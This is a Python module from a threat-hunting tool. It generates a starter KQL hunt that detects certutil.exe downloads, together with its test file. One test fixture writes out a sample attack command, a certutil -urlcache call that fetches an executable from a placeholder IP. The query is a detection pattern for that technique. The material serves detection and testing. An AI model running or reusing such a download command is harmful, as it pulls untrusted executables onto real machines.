"""`lakehunt new`: a starter hunt and its test, both of which run unchanged."""

from __future__ import annotations

import re
import uuid
from pathlib import Path

from lakehunt.core import atomic_write
from lakehunt.core.errors import LakehuntError

_HUNT = """\
id: {id}
name: {name}
description: |
  EXAMPLE, replace all of it: what is looked for, why it matters, and what usually turns out to be harmless.
requiredDataConnectors:
- connectorId: MicrosoftThreatProtection
  dataTypes:
  - DeviceProcessEvents
tactics:
- CommandAndControl
relevantTechniques:
- T1105
query: |
  // EXAMPLE, replace it with your own query: downloads with certutil
  DeviceProcessEvents
  | where Timestamp > ago(7d)
  | where FileName =~ 'certutil.exe'
  | where ProcessCommandLine has_any ('urlcache', 'verifyctl')
  | summarize Times = count(), CommandLines = make_set(ProcessCommandLine) by DeviceId, DeviceName
"""

_TESTS = """\
# Tests of {hunt}: lakehunt test {id}
# EXAMPLE, replace them together with the query.
tests:
- name: a download is found, a checksum is not
  match:
  - FileName: certutil.exe
    ProcessCommandLine: certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe
  no_match:
  - FileName: certutil.exe
    ProcessCommandLine: certutil.exe -hashfile a.exe SHA256
  rows:
  - DeviceId: device-1
    Times: 1
    CommandLines: ['certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe']
"""


def create(name: str, folder: Path) -> tuple[Path, Path]:
    """Writes a hunt of this name, and its tests, into the folder. Returns the two files.

    Raises LakehuntError if the name is invalid, a file exists, or a file cannot be written."""
    hunt, tests = files(name, folder)
    identifier = uuid.uuid4()
    write(tests, _TESTS.format(hunt=hunt.name, id=identifier))
    write(hunt, _HUNT.format(id=identifier, name=_quoted(" ".join(name.split()))))
    return hunt, tests


def files(name: str, folder: Path) -> tuple[Path, Path]:
    """The files in a folder for a new hunt of this name, and for its tests.

    Raises LakehuntError if the name is invalid or a file exists."""
    name = " ".join(name.split())
    stem = re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")
    if not stem:
        raise LakehuntError(f"{name!r} has no letters that a file could be called", "give the hunt a name in words")
    hunt, tests = folder / f"{stem}.yaml", folder / f"{stem}.tests.yaml"
    there = next((file for file in (hunt, tests) if file.exists()), None)
    if there is not None:
        raise LakehuntError(f"{there} is there already", "choose another name")
    return hunt, tests


def write(file: Path, text: str) -> None:
    """Writes a file of a new hunt. Raises LakehuntError if that is not possible."""
    try:
        atomic_write.write(file, text.encode())
    except OSError as error:
        raise LakehuntError(f"{file} cannot be written: {error.strerror}", "name a folder with --into") from error


def _quoted(name: str) -> str:
    """The name as a YAML value, quoted if necessary."""
    return name if re.fullmatch(r"[A-Za-z][\w ,.()/-]*", name) else "'" + name.replace("'", "''") + "'"
